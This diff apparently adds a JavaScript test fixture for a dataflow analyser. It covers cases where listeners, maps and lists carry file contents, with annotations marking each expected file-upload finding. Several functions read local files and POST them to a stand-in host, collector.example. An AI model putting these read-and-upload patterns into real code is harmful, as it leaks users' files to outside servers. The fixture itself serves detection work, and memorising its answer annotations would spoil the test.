@@ -1,0 +1,73 @@
+// Objects that are written into after they were handed on, and variables that inner functions fill.
+// --- path: collect.js ---
+import { createReadStream, readFileSync } from 'fs';
+import { createInterface } from 'readline';
+
+// A variable without a value at first, which a listener fills.
+export function listener(path) {
+  let text;
+  createReadStream(path).on('data', (chunk) => { text = chunk; }); //~ source(FILE) f1
+  fetch('https://collector.example/1', { method: 'POST', body: text }); //~ sink(egress.http) f1, finding(file-upload, traced) f1
+}
+
+export function unrelated(path) {
+  let text;
+  let count;
+  createReadStream(path).on('data', (chunk) => { text = chunk; count = 1; });
+  fetch('https://collector.example/2', { method: 'POST', body: count }); //~ ok
+}
+
+// An object of the caller that a listener fills.
+function lines(path, output) {
+  let number = 0;
+  createInterface({ input: createReadStream(path) }).on('line', (line) => { //~ source(FILE) f3
+    number++;
+    output[number] = line;
+  });
+}
+export function filled(path) {
+  const output = {};
+  lines(path, output);
+  fetch('https://collector.example/3', { method: 'POST', body: JSON.stringify(output) }); //~ sink(egress.http) f3, finding(file-upload, traced) f3
+}
+export function other(path) {
+  const output = {};
+  const empty = {};
+  lines(path, output);
+  fetch('https://collector.example/4', { method: 'POST', body: JSON.stringify(empty) }); //~ ok
+}
+
+// What a map gave is what lies in it.
+function entry(map, key, made) {
+  const known = map.get(key);
+  if (known === undefined) {
+    map.set(key, made);
+    return made;
+  }
+  return known;
+}
+export function cached(path) {
+  const cache = new Map();
+  entry(cache, path, []).push(readFileSync(path)); //~ source(FILE) f5
+  fetch('https://collector.example/5', { method: 'POST', body: cache.get(path) }); //~ sink(egress.http) f5, finding(file-upload, traced) f5
+}
+export function beside(path) {
+  const cache = new Map();
+  const copy = [...cache.keys()];
+  entry(cache, path, []).push(readFileSync(path));
+  fetch('https://collector.example/6', { method: 'POST', body: copy }); //~ ok
+}
+
+// A list holds the object, whatever is put into it later.
+export function later(path) {
+  const list = [];
+  const item = {};
+  list.push(item);
+  item.text = readFileSync(path, 'utf8'); //~ source(FILE) f7
+  fetch('https://collector.example/7', { method: 'POST', body: JSON.stringify(list) }); //~ sink(egress.http) f7, finding(file-upload, traced) f7
+}
+export function sentBefore(path) {
+  const item = {};
+  fetch('https://collector.example/8', { method: 'POST', body: JSON.stringify(item) }); //~ ok
+  item.text = readFileSync(path, 'utf8');
+}
